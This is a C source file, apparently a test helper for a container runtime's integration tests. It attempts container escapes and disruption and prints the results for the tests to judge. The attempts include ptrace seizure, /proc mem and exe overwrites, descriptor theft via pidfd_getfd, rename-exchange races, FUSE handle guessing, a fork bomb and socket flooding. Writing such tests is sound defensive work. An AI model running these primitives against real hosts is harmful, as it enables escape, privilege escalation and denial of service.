/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hostile - what an attacker runs in a test container, and on the host where a race needs a second
 * process: `hostile SUB ARGS...`. Attempts are printed one a line, `PID WHAT RESULT`, for
 * tests/integration/test_escapes_*.py to judge.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static char *proc_path(int pid, const char *name)
{
	static char path[128];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	return path;
}

static void say(int pid, const char *what, const char *result)
{
	dprintf(STDOUT_FILENO, "%d %s %s\n", pid, what, result);
}

/* Whether the process is still caisson-init: its arguments say so, whoever may read nothing else.
 */
static bool joining(int pid)
{
	char text[16] = "";
	const int fd = open(proc_path(pid, "cmdline"), O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return false;
	n = read(fd, text, sizeof(text) - 1);
	close(fd);
	return n > 12 && strcmp(text, "caisson-init") == 0;
}

/* A success counts only if the process has not become the user's program meanwhile. */
static void judge(int pid, const char *what, bool ok, const char *detail)
{
	const int code = errno;

	/* ETXTBSY: the way there was open. */
	if (!ok && code != ETXTBSY)
		say(pid, what, strerrorname_np(code));
	else if (!ok && joining(pid))
		say(pid, what, "ETXTBSY");
	else if (joining(pid))
		say(pid, what, detail);
	else
		say(pid, what, "late");
}

static void try_open(int pid, const char *name, int flags)
{
	char what[64], byte;
	const int fd = open(proc_path(pid, name), flags | O_CLOEXEC);
	bool ok = fd >= 0;

	/* environ and maps check again when they are read. */
	if (ok && (strcmp(name, "environ") == 0 || strcmp(name, "maps") == 0))
		ok = read(fd, &byte, 1) >= 0;
	snprintf(what, sizeof(what), "%s:%s", name, (flags & O_ACCMODE) == O_RDONLY ? "r" : "w");
	judge(pid, what, ok, "OPEN");
	if (fd >= 0)
		close(fd);
}

static void try_link(int pid, const char *name)
{
	char text[512];
	const ssize_t n = readlink(proc_path(pid, name), text, sizeof(text) - 1);

	text[n > 0 ? n : 0] = '\0';
	judge(pid, name, n >= 0, text);
}

/* A directory of the process: is it our own root (harmless) or another one? */
static void try_directory(int pid, const char *name)
{
	struct stat ours, theirs;
	char what[32];
	const bool ok = stat(proc_path(pid, name), &theirs) == 0;

	snprintf(what, sizeof(what), "%s/", name);
	if (stat("/", &ours) < 0)
		return;
	judge(pid, what, ok,
	      ok && ours.st_dev == theirs.st_dev && ours.st_ino == theirs.st_ino ? "OURS"
										 : "OTHER");
}

/*
 * What becomes of the file behind exe: keep it open, then write once nobody executes it any more.
 * Files of the container's own tree are its own to write, and other tests'.
 */
static void try_overwrite(int pid)
{
	char self[64], target[512];
	struct stat ours, theirs;
	const int fd = open(proc_path(pid, "exe"), O_RDONLY | O_CLOEXEC);
	const double end = now_s() + 0.2;
	int again = -1;
	ssize_t n;

	if (fd < 0) {
		say(pid, "overwrite", strerrorname_np(errno));
		return;
	}
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	if (stat("/", &ours) < 0 || fstat(fd, &theirs) < 0 || ours.st_dev == theirs.st_dev) {
		say(pid, "overwrite", "late");
		close(fd);
		return;
	}
	n = readlink(self, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = '\0';
	say(pid, "file", target);
	while (now_s() < end && (again = open(self, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY)
		;
	if (again < 0)
		say(pid, "overwrite", strerrorname_np(errno));
	else
		say(pid, "overwrite",
		    write(again, "#", 1) == 1 ? "WRITTEN" : strerrorname_np(errno));
	close(fd);
	if (again >= 0)
		close(again);
}

static void try_descriptors(int pid)
{
	const int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int n = 0; n < 32; n++) {
		char name[16], what[32];
		struct stat st;
		int fd;

		snprintf(name, sizeof(name), "fd/%d", n);
		try_link(pid, name);
		/* Through the link of procfs, then through the pidfd. */
		snprintf(what, sizeof(what), "fd/%d/", n);
		if (stat(proc_path(pid, name), &st) == 0 && S_ISDIR(st.st_mode) && joining(pid))
			say(pid, what, "DIRECTORY");
		fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
		if (fd >= 0 && joining(pid)) {
			snprintf(what, sizeof(what), "getfd/%d", n);
			say(pid, what, "TAKEN");
		}
		if (fd >= 0)
			close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
}

static void try_ptrace(int pid)
{
	const bool ok = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;

	judge(pid, "ptrace", ok, "SEIZED");
	if (ok) {
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

/* Lines of /proc/PID/status, which anybody may read. */
static void say_status(int pid)
{
	static const char *const wanted[] = { "CapInh", "CapPrm", "CapEff",	"CapBnd",
					      "CapAmb", "Uid",	  "NoNewPrivs", "Seccomp" };
	FILE *file = fopen(proc_path(pid, "status"), "re");
	char lines[64][96];
	int n = 0;

	if (!file)
		return;
	while (n < 64 && fgets(lines[n], sizeof(lines[n]), file))
		n++;
	fclose(file);
	if (!joining(pid))
		return;
	for (int i = 0; i < n; i++) {
		char *colon = strchr(lines[i], ':');

		if (!colon)
			continue;
		*colon = '\0';
		for (size_t j = 0; j < sizeof(wanted) / sizeof(wanted[0]); j++) {
			if (strcmp(lines[i], wanted[j]) == 0) {
				char word[64] = "";

				sscanf(colon + 1, "%63s", word);
				say(pid, lines[i], word);
			}
		}
	}
}

static void look(int pid)
{
	say_status(pid);
	try_link(pid, "exe");
	try_open(pid, "exe", O_WRONLY);
	try_open(pid, "mem", O_RDWR);
	try_open(pid, "environ", O_RDONLY);
	try_open(pid, "maps", O_RDONLY);
	try_directory(pid, "root");
	try_directory(pid, "cwd");
	try_link(pid, "ns/mnt");
	try_ptrace(pid);
	try_descriptors(pid);
	try_overwrite(pid);
	say(pid, "done", joining(pid) ? "still" : "gone");
}

/* look PID */
static int cmd_look(int argc, char **argv)
{
	if (argc != 2)
		return 64;
	look(atoi(argv[1]));
	return 0;
}

/*
 * watch SECONDS [FIRST]: attack every caisson-init that appears in this pid namespace, beginning
 * with a different attempt each time so that a short window meets them all.
 */
static int cmd_watch(int argc, char **argv)
{
	static void (*const attempts[])(int) = { say_status, try_ptrace, try_overwrite,
						 try_descriptors, look };
	static bool seen[1 << 22];
	const double end = now_s() + (argc > 1 ? atof(argv[1]) : 1e9);
	unsigned int turn = 0;

	say(0, "watch", "ready");
	while (now_s() < end) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		if (!dir)
			return 1;
		while ((entry = readdir(dir))) {
			const int pid = atoi(entry->d_name);

			if (pid <= 1 || pid == getpid() || pid >= 1 << 22 || seen[pid] ||
			    !joining(pid))
				continue;
			seen[pid] = true;
			say(pid, "seen", "joining");
			attempts[turn++ % 5](pid);
			try_open(pid, "mem", O_RDWR);
		}
		closedir(dir);
	}
	return 0;
}

/* stop SECONDS: SIGSTOP every caisson-init that appears. */
static int cmd_stop(int argc, char **argv)
{
	const double end = now_s() + (argc > 1 ? atof(argv[1]) : 1e9);

	say(0, "stop", "ready");
	while (now_s() < end) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			const int pid = atoi(entry->d_name);

			if (pid > 1 && pid != getpid() && joining(pid))
				say(pid, "stopped", kill(pid, SIGSTOP) == 0 ? "ok" : "refused");
		}
		if (dir)
			closedir(dir);
	}
	return 0;
}

/* overwrite: write to whatever any other process executes, without end. */
_Noreturn static int cmd_overwrite(int argc, char **argv)
{
	say(0, "overwrite", "ready");
	for (;;) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			const int pid = atoi(entry->d_name);

			if (pid > 0 && pid != getpid())
				try_overwrite(pid);
		}
		if (dir)
			closedir(dir);
	}
}

/* roots: look at the root of every other process for the directory that only the host has. */
_Noreturn static int cmd_roots(int argc, char **argv)
{
	say(0, "roots", "ready");
	for (;;) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			const int pid = atoi(entry->d_name);
			struct stat st;
			int root;

			if (pid <= 1 || pid == getpid())
				continue;
			root = open(proc_path(pid, "root"), O_PATH | O_DIRECTORY | O_CLOEXEC);
			if (root < 0)
				continue;
			say(pid, "root",
			    fstatat(root, "run/caisson-it", &st, 0) == 0 ? "HOST" : "CONTAINER");
			close(root);
		}
		if (dir)
			closedir(dir);
	}
}

/* swap A B SECONDS: exchange two names as fast as possible; prints how often. */
static int cmd_swap(int argc, char **argv)
{
	double end;
	long n = 0;

	if (argc != 4)
		return 64;
	end = now_s() + atof(argv[3]);
	while (now_s() < end) {
		for (int i = 0; i < 64; i++, n++) {
			if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0 &&
			    errno != ENOENT && errno != EBUSY)
				return 1;
		}
	}
	printf("%ld\n", n);
	return 0;
}

/* nest DIR DEPTH NAMELEN: directories in directories; with a child in the innermost (cgroup.procs).
 */
static int cmd_nest(int argc, char **argv)
{
	char name[256] = "";
	int depth, made = 0, fd;
	char text[16];

	if (argc != 4 || chdir(argv[1]) < 0)
		return 64;
	depth = atoi(argv[2]);
	memset(name, 'n', (size_t)atoi(argv[3]) % 255);
	while (made < depth && mkdir(name, 0755) == 0 && chdir(name) == 0)
		made++;
	fd = open("cgroup.procs", O_WRONLY | O_CLOEXEC);
	snprintf(text, sizeof(text), "%d", getpid());
	printf("depth %d %s\n", made,
	       fd >= 0 && write(fd, text, strlen(text)) > 0 ? "moved" : strerrorname_np(errno));
	fflush(stdout);
	for (;;)
		pause();
}

/* bomb: fork without end, ignoring every signal. */
_Noreturn static int cmd_bomb(int argc, char **argv)
{
	for (int number = 1; number < 65; number++)
		signal(number, SIG_IGN);
	say(0, "bomb", "ready");
	for (;;) {
		if (fork() < 0)
			sched_yield();
	}
}

/* flood PATH SECONDS: datagrams to a unix socket, none of which says what is awaited. */
static int cmd_flood(int argc, char **argv)
{
	struct sockaddr_un addr = { .sun_family = AF_UNIX };
	const int sock = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	char text[8192];
	double end;

	if (argc != 3)
		return 64;
	memset(text, 'X', sizeof(text));
	snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", argv[1]);
	end = now_s() + atof(argv[2]);
	while (now_s() < end)
		(void)sendto(sock, text, sizeof(text), MSG_DONTWAIT, (struct sockaddr *)&addr,
			     sizeof(addr));
	(void)sendto(sock, "READY=1", 7, 0, (struct sockaddr *)&addr, sizeof(addr));
	for (;;)
		pause();
}

/* closed N CMD...: execute with the first N descriptors closed. */
static int cmd_closed(int argc, char **argv)
{
	if (argc < 3)
		return 64;
	for (int fd = 0; fd < atoi(argv[1]); fd++)
		close(fd);
	execvp(argv[2], argv + 2);
	return 127;
}

/* sigign N CMD...: execute with that signal ignored and blocked. */
static int cmd_sigign(int argc, char **argv)
{
	sigset_t set;

	if (argc < 3)
		return 64;
	signal(atoi(argv[1]), SIG_IGN);
	sigemptyset(&set);
	sigaddset(&set, atoi(argv[1]));
	sigprocmask(SIG_BLOCK, &set, NULL);
	execvp(argv[2], argv + 2);
	return 127;
}

/* ids: real, effective and saved user. */
static int cmd_ids(int argc, char **argv)
{
	uid_t r, e, s;

	getresuid(&r, &e, &s);
	printf("%u %u %u\n", r, e, s);
	return 0;
}

/* What is behind a descriptor: names of a directory, the beginning of a file. */
static void show(const char *what, int fd)
{
	DIR *dir = fdopendir(fd);
	const struct dirent *entry;
	char text[64] = "";

	if (dir) {
		while ((entry = readdir(dir)))
			printf("%s has %s\n", what, entry->d_name);
		closedir(dir);
		return;
	}
	if (read(fd, text, sizeof(text) - 1) > 0)
		printf("%s says %.20s\n", what, text);
	close(fd);
}

/*
 * What linux's FUSE makes of a file: its node's number in two halves and a generation, and of its
 * directory the same (fuse_encode_fh()). A node that the kernel does not know is looked up as "."
 * at the server, its directory as "..".
 */
#define FUSE_HANDLE	   0x81
#define FUSE_HANDLE_PARENT 0x82

struct fuse_handle {
	struct file_handle head;
	unsigned int words[6];
};

static void try_handle(int mount_fd, unsigned int node, int type)
{
	struct fuse_handle h = {
		.head = { .handle_bytes = type == FUSE_HANDLE ? 12 : 24, .handle_type = type },
		.words = { 0, node, 0, 0, node, 0 },
	};
	char what[32];
	int fd;

	fd = open_by_handle_at(mount_fd, &h.head, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	snprintf(what, sizeof(what), "node %u", node);
	if (fd >= 0)
		show(what, fd);
	else
		printf("%s %s\n", what, strerrorname_np(errno));
}

/*
 * handles DIR N: open what a file system of FUSE's knows under the node numbers below N, and what
 * is above. Its own handle of DIR first, which shows that they are taken at all.
 */
static int cmd_handles(int argc, char **argv)
{
	struct fuse_handle own = { .head.handle_bytes = sizeof(own.words) };
	const int mount_fd = argc == 3 ? open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC) : -1;
	int id, fd;

	if (mount_fd < 0)
		return 64;
	if (name_to_handle_at(AT_FDCWD, argv[1], &own.head, &id, 0) < 0)
		return 65;
	fd = open_by_handle_at(mount_fd, &own.head, O_RDONLY | O_CLOEXEC);
	printf("own %d %s\n", own.head.handle_type, fd >= 0 ? "opened" : strerrorname_np(errno));
	if (fd >= 0)
		show("own", fd);
	for (unsigned int node = 0; node < (unsigned int)atoi(argv[2]); node++) {
		try_handle(mount_fd, node, FUSE_HANDLE);
		try_handle(mount_fd, node, FUSE_HANDLE_PARENT);
	}
	return 0;
}

static const struct {
	const char *name;
	int (*run)(int argc, char **argv);
} commands[] = {
	{ "look", cmd_look },	    { "watch", cmd_watch },	    { "stop", cmd_stop },
	{ "swap", cmd_swap },	    { "nest", cmd_nest },	    { "bomb", cmd_bomb },
	{ "flood", cmd_flood },	    { "closed", cmd_closed },	    { "sigign", cmd_sigign },
	{ "ids", cmd_ids },	    { "overwrite", cmd_overwrite }, { "roots", cmd_roots },
	{ "handles", cmd_handles },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(commands[0]); i++) {
		if (strcmp(argv[1], commands[i].name) == 0)
			return commands[i].run(argc - 1, argv + 1);
	}
	dprintf(STDERR_FILENO, "usage: hostile SUB ARGS...\n");
	return 64;
}
